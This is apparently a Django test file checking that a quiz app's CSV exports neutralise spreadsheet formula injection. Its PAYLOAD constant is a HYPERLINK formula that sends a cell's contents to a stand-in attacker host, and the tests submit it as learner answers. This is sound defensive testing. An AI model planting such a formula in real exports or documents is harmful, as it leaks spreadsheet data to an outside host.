"""CSV formula injection (audit 3, item 1): learners' and editors' text never runs in a spreadsheet."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from conftest import client_for_learner
from core.exports import spreadsheet_cell
from quizzes.tests.builders import make_check

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_gets_a_leading_quote(start):
    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    assert spreadsheet_cell(-0.123) == -0.123 and spreadsheet_cell(3) == 3
    assert spreadsheet_cell("쿠버네티스") == "쿠버네티스" and spreadsheet_cell(None) == ""
    assert spreadsheet_cell("-0.123") == "'-0.123"  # text that only looks like a number is text


def cells(response):
    """The CSV as a spreadsheet program reads it: text cells quoted, numbers bare."""
    text = response.content.decode("utf-8-sig")
    return text, list(csv.reader(io.StringIO(text)))


def test_a_formula_typed_as_an_answer_lands_neutralised_in_both_exports(client):
    quiz = make_check(slug="csv-attack")
    short = quiz.questions.get(key="short")
    short.prompt = "@SUM(1+1) 쿠버네티스를 줄여 쓰면?"
    short.save()
    for n in range(3):  # typed from a few sessions, it becomes the most common wrong answer
        learner = client_for_learner(f"attacker-{n}")
        learner.post(reverse("quizzes:answer", args=[quiz.slug, short.pk]), {"text": PAYLOAD})
        for question in quiz.questions.exclude(pk=short.pk):
            wrong = [c.token for c in question.choices.all() if not c.is_correct][:1]
            learner.post(reverse("quizzes:answer", args=[quiz.slug, question.pk]), {"choice": wrong})
    client.force_login(User.objects.create_superuser("staff", password="pw"))

    text, rows = cells(client.get(reverse("learners:analytics"), {"format": "csv", "table": "questions"}))
    row = next(row for row in rows if row[5].endswith(PAYLOAD))
    assert row[5] == "'" + PAYLOAD and row[2].startswith("'@SUM") and row[6] == "3"
    assert "\"'=HYPERLINK" in text  # quoted, so no separator inside it can start a new cell

    text, rows = cells(client.get(reverse("admin:quizzes_quiz_stats", args=[quiz.pk]), {"format": "csv"}))
    row = next(row for row in rows if row[1] == "short")
    assert row[0].startswith("'@SUM") and row[6].startswith("'=HYPERLINK")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_negative_discrimination_is_written_as_a_number():
    from django.utils import timezone

    from quizzes.models import Attempt
    from quizzes.stats import analyse, analysis_csv
    from quizzes.tests.test_item_analysis import answer

    quiz = make_check(slug="negative")
    single, multiple, tf, short = quiz.questions.order_by("order")
    for n, row in enumerate([(0, 1, 1, 1), (0, 1, 1, 1), (0, 1, 1, 0), (1, 0, 1, 0)]):
        attempt = Attempt.objects.create(
            quiz=quiz, number=1, pass_mark=50, session_key=f"l{n}", finished_at=timezone.now()
        )
        for question, right in zip((single, multiple, tf, short), row, strict=True):
            answer(attempt, question, right)
    text, rows = cells(analysis_csv(quiz, analyse(quiz)))
    discrimination = next(row for row in rows if row[1] == "single")[4]
    assert float(discrimination) < 0 and f",{discrimination}," in text  # bare: a number, not quoted text
